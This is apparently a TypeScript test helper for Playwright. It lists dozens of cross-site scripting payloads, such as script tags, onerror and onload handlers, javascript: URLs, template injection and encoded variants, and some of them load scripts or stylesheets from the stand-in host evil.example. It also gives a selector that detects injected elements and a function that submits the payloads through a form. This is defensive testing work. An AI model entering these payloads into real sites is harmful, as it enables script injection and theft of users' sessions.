import type { Page } from "playwright-core";
import { defineInPage } from "./in-page.ts";

/** Texts that run as a script if one is treated as markup, an attribute, an address or code. All fit into a name. */
export const hostileTexts: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</noscript><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<<script>alert(1);//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  "<img src='x' onerror='alert(1)'",
  "<img/src/onerror=alert(1)>",
  "<img src=x:x onerror=&#97;lert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</form>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<math><mi xlink:href=javascript:alert(1)>x</math>",
  '" onfocus=alert(1) autofocus x="',
  "' style=background:url(javascript:alert(1)) '",
  "javascript:alert(1)",
  "java&#09;script:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  `$\{alert(1)}`,
  "{{constructor.constructor('alert(1)')()}}",
  "'-alert(1)-'",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "&lt;img src=x onerror=alert(1)&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
];

/** Selects elements that only one of the texts could create: those of the app have classes. `Troubles` reports one that ran: each would show a dialog. */
export const madeByText =
  "script:not([src^='/']), iframe, object, embed, base, video, audio, math, details:not([class]), meta[http-equiv], img, " +
  "[onerror], [onload], [onfocus], [ontoggle], [onbegin], [href^='javascript:'], [action]";

/** The elements of a page that only one of the texts could create. */
export const made = (page: Page): Promise<string[]> =>
  page.evaluate((selector) => [...document.querySelectorAll(selector)].map(({ outerHTML }) => outerHTML), madeByText);

export interface Round {
  /** The values to enter, by the names of the fields. */
  fields: Readonly<Record<string, string>>;
  /** The texts that the page then shows, by the selector of their elements. */
  shows: Readonly<Record<string, readonly string[]>>;
}

/**
 * Fills in and submits the page's form once for each round, and waits for the result. Returns the elements that only a text could
 * create. @throws if a round shows something else
 */
export async function sendEach(page: Page, rounds: readonly Round[]): Promise<string[]> {
  await defineInPage(page);
  return page.evaluate(
    async ({ rounds, selector }) => {
      const textsOf = (one: string) => [...document.querySelectorAll(one)].map(({ textContent }) => textContent);
      const found: string[] = [];
      for (const { fields, shows } of rounds) {
        const expected = JSON.stringify(shows);
        const shown = () => JSON.stringify(Object.fromEntries(Object.keys(shows).map((one) => [one, textsOf(one)])));
        const describe = () => `${shown()} where ${expected} was expected`;
        window.inPage.type(fields);
        // The result of the previous round is gone.
        await window.inPage.until(() => shown() !== expected, describe);
        window.inPage.send({});
        await window.inPage.until(() => shown() === expected, describe);
        found.push(...[...document.querySelectorAll(selector)].map(({ outerHTML }) => outerHTML));
      }
      return found;
    },
    { rounds, selector: madeByText },
  );
}
